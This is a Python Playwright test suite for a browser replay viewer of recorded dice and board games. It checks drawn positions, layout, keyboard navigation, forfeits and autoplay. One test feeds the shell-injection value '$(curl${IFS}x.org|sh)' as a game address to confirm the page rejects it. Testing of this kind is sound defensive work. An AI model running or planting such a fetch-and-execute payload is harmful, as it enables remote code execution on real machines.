"""Replays in a browser: what is drawn is what was, at every position."""

from itertools import chain
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from browser import WIDTHS
from matrix import divided
from playwright.sync_api import Page, expect
from recorded import KINDS, NAMES, PRINTS, SECRET, Recorded, names_of, recorded

from arena.games import Replay, State
from arena.league.results.store import Store
from arena.reports.pages.site import Site
from arena.reports.replay.packs import write_replays
from arena.reports.report import Report

__all__ = ["recorded"]

# Goes to positions, one step on by a key and further by the scrubber, and notes at each
# what is drawn.
WALK = """(stops) => {
  const scrubber = document.querySelector("#scrubber");
  const go = (to) => {
    if (to === Number(scrubber.value) + 1) {
      const press = new KeyboardEvent("keydown", { key: "n", bubbles: true });
      document.body.dispatchEvent(press);
    } else {
      scrubber.value = String(to);
      scrubber.dispatchEvent(new Event("input"));
    }
  };
  return stops.map((to) => {
    go(to);
    const drawn = {};
    for (const piece of document.querySelectorAll("#drawing [data-zone]")) {
      const zone = piece.dataset.zone;
      const label = piece.dataset.value ?? piece.getAttribute("aria-label");
      (drawn[zone] ??= []).push(label);
    }
    const board = document.querySelector("#drawing .board");
    const scores = [...document.querySelectorAll("#drawing .score strong")];
    return {
      drawn,
      board: board && board.getAttribute("aria-label"),
      scores: scores.map((each) => each.textContent),
      text: document.querySelector("#drawing .as-text")?.textContent ?? null,
      status: document.querySelector("#status").textContent,
      width: document.scrollingElement.scrollWidth,
    };
  });
}"""

# Goes to positions, and notes where the table and the buttons are.
BOXES = """(stops) => stops.map((to) => {
  const scrubber = document.querySelector("#scrubber");
  scrubber.value = String(to);
  scrubber.dispatchEvent(new Event("input"));
  const drawing = document.querySelector("#drawing");
  const box = (name) => document.querySelector(name).getBoundingClientRect();
  const size = Number(drawing.firstElementChild.style.zoom);
  // Of what is drawn as text; a mark or a picture is none.
  const fonts = [...drawing.querySelectorAll(":not(svg, svg *, .turn-mark, .hidden)")]
    .filter((each) => [...each.childNodes].some((x) => x.nodeType === 3))
    .map((each) => parseFloat(getComputedStyle(each).fontSize) * size);
  const legal = document.querySelector("#legal");
  const end = legal.getBoundingClientRect().bottom;
  const wide = [...drawing.querySelectorAll(".under")].filter(
    (each) => each.scrollWidth > each.clientWidth,
  );
  return {
    font: Math.min(...fonts),
    cut: [...legal.children]
      .flatMap((each) => [...each.getClientRects()])
      .filter(({ top, bottom }) => top < end - 1 && bottom > end + 1).length,
    wide: wide.map((each) => each.textContent),
    scrolls: [
      drawing.scrollWidth - drawing.clientWidth,
      drawing.scrollHeight - drawing.clientHeight,
    ],
    top: box(".stage").top + scrollY,
    bottom: box(".player").bottom + scrollY,
    sideways: document.scrollingElement.scrollWidth - innerWidth,
    size,
  };
})"""

SMALLEST_FONT = 8
"""In pixels of a page: what a phone draws with two or three dots each."""

UNNAMED = """[...document.querySelectorAll("button, input, select")].filter(
  (each) => !(each.textContent.trim() || each.labels?.length || each.ariaLabel)
).length"""


@pytest.fixture(scope="module")
def pages(recorded: Recorded) -> Path:
    """The folder of the pages that replay all recorded games."""
    report = SimpleNamespace(
        league="Class", played=15, planned=15, columns=("dice",), is_anonymous=False
    )
    folder = recorded.folder / "report"
    site = Site(cast(Report, report), folder, "results/x")
    site.copy_static()
    site.write_replay_page({"pig"})
    ids = [record.game_id for record in recorded.records.values()]
    with Store.read(recorded.folder) as store:
        names = names_of(store)
        write_replays(store, names, ids, folder, results="results/x", private=True)
    return folder


def go(page: Page, address: str) -> None:
    page.evaluate("(to) => { location.hash = to; }", address)


def show(page: Page, pages: Path, address: str) -> None:
    """Open a replay, and wait until it is drawn."""
    if page.url == "about:blank":
        page.goto(f"{(pages / 'replay.html').as_uri()}#{address}")
    else:
        go(page, address)
    expect(page.locator("#command")).to_contain_text(address.split("/")[0])


def at(page: Page) -> int:
    return int(page.input_value("#scrubber"))


def expected(state: Any) -> dict[str, int]:
    """Return how many pieces of each zone lie on the table; what is thrown apart."""
    if state.game.name == "zombie_dice":
        turn = state.turn
        return {
            "brains": sum(turn.brain_dice),
            "shotguns": sum(turn.shotgun_dice),
            "feet": sum(turn.hand),
            "aside": sum(turn.aside),
            "cup-kind": sum(n > 0 for n in turn.cup),
            "bus": int(turn.bus != "none"),
        }
    if state.game.name == "ox_blocks":
        return {"board": sum(x != "." for x in state.observation(0).board)}
    if state.game.name == "zombie_mania":
        return {
            "kept": sum(state.kept),
            "tokens": sum(state.tokens),
            "graveyard": state.graveyard,
        }
    return {
        "hand": sum(map(len, state.hands)),
        "drawn": int(state.held is not None),
        "discard": int(state.top is not None),
        "pile": int(state.draw_size > 0),
    }


def check_frame(state: State, look: dict[str, Any]) -> None:
    """Compare what is drawn with the state: how many pieces, and what they say."""
    seen: Any = state.observation(0)
    drawn = look["drawn"]
    if state.game.name == "pig":
        assert look["text"] == state.to_text()
        return
    counts = expected(state)
    if "revealed" in drawn:
        assert [int(x) for x in drawn["revealed"]] == [*chain(*seen.revealed)]
        del counts["pile"]
    assert {zone: len(drawn.get(zone, [])) for zone in counts} == counts
    if state.game.name == "zombie_dice":
        brains = [x.split(" die: ")[0] for x in drawn.get("brains", [])]
        for kind in ("green", "yellow", "red", "hunk", "hottie", "santa", "horde"):
            assert brains.count(kind) == getattr(seen.brain_dice, kind)
        assert look["scores"] == [str(n) for n in seen.scores]
    elif state.game.name == "ox_blocks":
        size = len(seen.board) ** 0.5
        words = [{".": "empty"}.get(x, x) for x in seen.board]
        for row in range(int(size)):
            cells = words[row * int(size) : (row + 1) * int(size)]
            assert f"row {row + 1}: {', '.join(cells)}" in look["board"]
    elif state.game.name == "zombie_mania":
        assert look["scores"] == [str(n) for n in seen.tokens]
        if seen.rolled:
            assert len(drawn["rolled"]) == len(seen.rolled)
    elif state.game.name == "zombie_run":
        hands = [str(card.value) for hand in state.hands for card in hand]  # type: ignore[attr-defined]
        assert drawn.get("hand", []) == hands
        assert look["scores"] == [str(n) for n in seen.scores]


def kind(state: Any) -> tuple[object, ...]:
    """Return what tells one kind of position from others."""
    if state.game.name == "pig":
        return (state.current_player() < 0,)
    over = getattr(state.observation(0), "revealed", ())
    found = expected(state)
    return (state.current_player() < 0, bool(over), *(n > 0 for n in found.values()))


@pytest.mark.parametrize("every", divided((False, True), lambda every: not every))
def test_frames_show_the_state_up_to_the_recorded_result(
    every: bool, pages: Path, page: Page, recorded: Recorded
) -> None:
    """One game is stepped through; of the others, one of each kind of position."""
    page.set_viewport_size({"width": WIDTHS["phone"], "height": 800})
    for name in KINDS:
        record = recorded.records[name]
        show(page, pages, record.game_id)
        replay = Replay(recorded.game(name), record.history)
        states = [table.state.clone() for table in replay.walk()]
        last = len(record.history)
        stops = [*range(last + 1)]
        if not every and name != "ox":
            stops = sorted({kind(states[i]): i for i in stops}.values())
        looks = page.evaluate(WALK, stops)
        assert at(page) == last
        assert max(look["width"] for look in looks) == WIDTHS["phone"]
        for stop, look in zip(stops, looks, strict=True):
            check_frame(states[stop], look)
        result = page.inner_text("#outcome")
        for seat, score in enumerate(record.scores):
            assert f"{NAMES[seat]}, seat {seat}: {score:g} " in result
        assert "The game came to its own end." in result
        winners = [NAMES[s] for s, place in enumerate(record.places) if place == 1]
        end = f"{winners[0]} wins." if len(winners) == 1 else "share the win."
        if len(winners) == len(record.places):
            end = "A draw."
        assert looks[-1]["status"].endswith(f"The game is over. {end}")
    assert page.evaluate(UNNAMED) == 0


def test_keys_buttons_and_the_scrubber_step_through(
    pages: Path, page: Page, recorded: Recorded
) -> None:
    record = recorded.records["run"]
    replay = Replay(recorded.game("run"), record.history)
    rounds = [table.state.round for table in replay.walk()]  # type: ignore[attr-defined]
    last = len(record.history)
    show(page, pages, record.game_id)
    for key, to in (
        *(("ArrowRight", 1), ("n", 2), ("ArrowLeft", 1), ("End", last), ("Home", 0)),
        ("t", 9),  # the deal and the first discard are nobody's turn
        *(("r", rounds.index(2)), ("Shift+R", 0)),
    ):
        page.keyboard.press(key)
        assert at(page) == to, key
    assert replay.decisions[0] == 9
    for name in ("Next", "End", "Back"):
        page.get_by_role("button", name=name, exact=True).click()
    assert at(page) == last - 1
    page.fill("#scrubber", "12")
    assert page.get_attribute("body", "data-position") == "12"
    valuetext = page.get_attribute("#scrubber", "aria-valuetext") or ""
    assert valuetext.startswith(f"Position 12 of {last}; step ")
    page.locator("#log button").nth(19).click()
    assert at(page) == 20
    assert page.locator("#log [aria-current]").count() == 1


def test_an_address_leads_to_a_decision_and_back(
    pages: Path, page: Page, recorded: Recorded
) -> None:
    record = recorded.records["everything"]
    replay = Replay(recorded.game("everything"), record.history)
    show(page, pages, f"{record.game_id}/5")
    assert at(page) == replay.decisions[5]
    taken = record.history[replay.decisions[5]]
    total = len(replay.table_at(replay.decisions[5]).state.legal_actions())
    # What was played is named, and comes before all else that was legal.
    words = page.inner_text("#legal")
    assert words.startswith(f"Played, 1 of {total} legal: {taken} ")
    assert taken not in page.locator("#legal code").all_inner_texts()[1:]
    page.keyboard.press("t")
    step = page.inner_text("#where").split()[5]
    assert page.url.endswith(f"#{record.game_id}/{step}")
    go(page, f"{record.game_id[:8]}/2")
    body, place = page.locator("body"), str(replay.decisions[2])
    expect(body).to_have_attribute("data-position", place)
    other = recorded.records["ox"]
    go(page, f"{other.game_id}/999")
    expect(page.locator("#scrubber")).to_have_value(str(len(other.history)))
    command = f"arena replay results/x {other.game_id} --step {other.decisions}"
    assert page.inner_text("#command") == command


def test_what_can_not_be_shown_is_said(
    pages: Path, page: Page, recorded: Recorded
) -> None:
    page.goto((pages / "replay.html").as_uri())
    expect(page.locator("#message")).to_contain_text("Choose a game")
    for address in ("0123456789", "1fffffffff"):
        go(page, address)
        words = f"arena replay results/x {address}"
        expect(page.locator("#message")).to_contain_text(words)
        assert page.locator("#replay").is_hidden()
    go(page, "$(curl${IFS}x.org|sh)")
    expect(page.locator("#message")).to_have_text("That is no game's id.")
    page.add_init_script("delete window.DecompressionStream")
    page.reload()
    go(page, recorded.records["ox"].game_id)
    expect(page.locator("#message")).to_contain_text("This browser is too old")


def test_a_forfeit_is_shown_where_it_happened(
    pages: Path, page: Page, recorded: Recorded
) -> None:
    for name in ("forfeit", "played on", "never begun"):
        record = recorded.records[name]
        (fault,) = record.faults
        replay = Replay(recorded.game(name), record.history)
        show(page, pages, f"{record.game_id}/{fault.step}")
        taken = replay.decisions
        place = taken[fault.step] if fault.step < len(taken) else len(record.history)
        assert at(page) == place
        sentence = f"{NAMES[fault.seat]} forfeits: {fault.termination}"
        assert page.inner_text("#drawing .banner") == f"✖ {sentence}"
        assert sentence in page.inner_text("#status")
        assert SECRET in " ".join(page.inner_text("#faults").split())
        outcome = page.inner_text("#outcome")
        assert f"forfeit: {fault.termination}" in outcome
        assert ("It was played on" in outcome) == (name == "played on")
        assert f"--step {fault.step}" in page.inner_text("#faults")
        page.keyboard.press("Home")
        page.keyboard.press("f")
        assert at(page) == place
        played = page.locator("#log button", has_text="(played for it)").count()
        later = [replay.events[i].seat for i in taken[fault.step :]]
        assert played == later.count(fault.seat)


def test_a_seat_sees_what_it_may_and_what_is_new(
    pages: Path, page: Page, recorded: Recorded
) -> None:
    record = recorded.records["run of three"]
    replay = Replay(recorded.game("run of three"), record.history)
    show(page, pages, f"{record.game_id}/8")
    state = replay.table_at(replay.decisions[8]).state
    hands: Any = state.observation(1).hands  # type: ignore[attr-defined]
    page.select_option("#viewer", "1")
    backs = page.locator("#drawing .mat .playing-card.back").count()
    assert backs == sum(value is None for hand in hands for value in hand) > 0
    page.locator("#seat-choice button").nth(1).click()
    row = page.locator("#sight tr", has=page.locator("th", has_text="hands"))
    # Python's own way to write it is what a bot would print.
    assert row.locator("td").inner_text() == str(hands)
    show(page, pages, recorded.records["ox"].game_id)
    assert page.locator("#sight tr.new").count() == 0
    page.keyboard.press("n")
    fields = page.locator("#sight tr.new th").all_inner_texts()
    assert fields == ["thrown ●", "throws ●"] * 2


@pytest.mark.parametrize(
    ("width", "height", "every"),
    [
        *((1280, 720, False), (390, 844, False)),
        *(
            pytest.param(*size, True, marks=pytest.mark.exhaustive)
            for size in ((1280, 720), (390, 844), (360, 740), (1920, 1080))
        ),
    ],
)
def test_board_dice_and_buttons_are_in_one_screen(
    width: int, height: int, every: bool, pages: Path, page: Page, recorded: Recorded
) -> None:
    page.set_viewport_size({"width": width, "height": height})
    for name in KINDS if every else ("dice", "ox", "run", "mania"):
        record = recorded.records[name]
        show(page, pages, record.game_id)
        last = len(record.history)
        stops = range(last + 1) if every else (last // 2, last)
        for stop, box in zip(stops, page.evaluate(BOXES, [*stops]), strict=True):
            assert box["scrolls"] == [0, 0], (name, stop)
            assert box["top"] >= 0
            assert box["bottom"] <= height
            assert box["sideways"] <= 0
            assert box["size"] >= (0.65 if width == WIDTHS["phone"] else 0.75)
            assert not box["cut"], "a row of legal actions is cut"
            assert not box["wide"], "what stands below a card is wider than it"
            assert box["font"] >= SMALLEST_FONT, "too small to be read"


def test_what_a_bot_printed_stands_below_its_decision(
    pages: Path, page: Page, recorded: Recorded
) -> None:
    record = recorded.records["run"]
    printed = page.locator("#printed")
    for seat, step, text in PRINTS:
        show(page, pages, f"{record.game_id}/{step}")
        expect(printed).to_have_text(f"{NAMES[seat]} printed:{text}")
        assert printed.locator("pre").inner_text() == text
        page.keyboard.press("b")
        expect(printed).to_be_hidden()


def test_it_plays_by_itself_and_stops_at_the_end(
    pages: Path, page_alone: Page, recorded: Recorded
) -> None:
    page = page_alone
    page.clock.install()
    page.emulate_media(reduced_motion="reduce")
    record = recorded.records["ox"]
    show(page, pages, record.game_id)
    page.keyboard.press("Space")
    page.clock.run_for(3500)
    assert at(page) == 3
    page.keyboard.press("+")
    page.clock.run_for(600)
    assert at(page) == 4
    assert page.inner_text("#play").endswith("Pause")
    page.clock.run_for(600 * len(record.history))
    assert at(page) == len(record.history)
    assert page.inner_text("#play").endswith("Play")
    motion = (
        "getComputedStyle(document.querySelector('.fresh .on-board')).animationName"
    )
    assert page.evaluate(motion) == "none"
